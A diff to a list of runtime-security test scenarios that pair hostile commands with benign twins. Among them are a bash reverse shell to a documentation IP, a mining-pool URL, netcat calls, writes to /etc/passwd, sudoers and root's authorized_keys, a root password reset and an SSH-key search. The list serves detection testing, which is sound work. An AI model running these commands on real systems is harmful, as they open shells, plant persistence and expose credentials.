@@ -42,7 +42,7 @@ SCENARIOS = [
     linked("rt-node-port", "$n/prometheus @connect 203.0.113.9 10250"),
     linked("rt-miner-pool", "$n/geth @connect 203.0.113.9 14444"),
     S("rt-miner-arguments", "$n/grep -o stratum+tcp://192.0.2.1:3333",
-      "grep stratum+tcp:// /srv/data/file", variant=LINK, benign_direct=True),
+      "grep stratum+tcp:// /srv/data/file", variant=LINK, direct=True),
     linked("rt-account-file", "$n/useradd @open w /etc/passwd"),
     linked("rt-sudoers", "mkdir -p /etc/sudoers.d; $n/visudo @open wct /etc/sudoers.d/y"),
     linked("rt-ssh-key", "$n/cloud-init @open w /root/.ssh/authorized_keys"),
@@ -86,6 +86,10 @@ SCENARIOS = [
       options=("--env", "ENV=/srv/data/typed.sh"), variant="typed into the container's shell",
       fd__name="/etc/profile.d/typed.sh"),
 
+    S("rt-shell-start", "unshare --pid --fork /bin/sh /srv/data/typed.sh",
+      "/bin/sh /srv/data/typed.sh", where="privileged", benign_where="start",
+      variant="as the first of a namespace", fd__name="/etc/profile.d/typed.sh"),
+
     # ---- words that are spared ----
     S("rt-dev-tcp",
       "bash -c 'true # bash -i >& /dev/tcp/198.51.100.10/4444 0>&1 # /dev/tcp/127.0.0.1'",
@@ -105,12 +109,11 @@ SCENARIOS = [
     # ---- applets: busybox runs them as itself ("exe"), or is told which ----
     S("rt-network-tool", "busybox sh -c 'nc -w 1 198.51.100.7 80; true'",
       "busybox sh -c 'nc -z -w 1 198.51.100.7 80; true'", variant=APPLET),
-    S("rt-cron", "busybox sh -c 'crontab -u root /srv/data/file; true'",
-      "busybox sh -c 'crontab -l; true' 2> /dev/null", variant=APPLET),
-    S("rt-token-read", f"{TOKEN}; busybox sh -c 'cat token; true'",
-      f"{TOKEN}; busybox sh -c 'ls; true'", variant=APPLET),
-    S("rt-password-tool", "busybox sh -c 'echo root:x | chpasswd; true'",
-      "busybox sh -c 'id; true'", variant=APPLET),
+    S("rt-cron", "$n/act @argv0 crontab $n/exe -e", "$n/act @argv0 crontab $n/exe -l",
+      variant=APPLET),
+    S("rt-token-read", f"{TOKEN}; $n/act @argv0 cat $n/exe @open r token",
+      f"{TOKEN}; $n/act @argv0 app $n/exe @open r token", variant=APPLET),
+    S("rt-password-tool", "$n/busybox chpasswd", "$n/busybox id", variant=APPLET),
     S("rt-data-destroyed", "busybox sh -c 'shred /tmp/nothing; true'",
       "busybox sh -c 'rm -rf /tmp/nothing; true'", variant=APPLET),
     S("rt-secret-search", "busybox find /srv -name id_rsa", "busybox find /srv -name file",
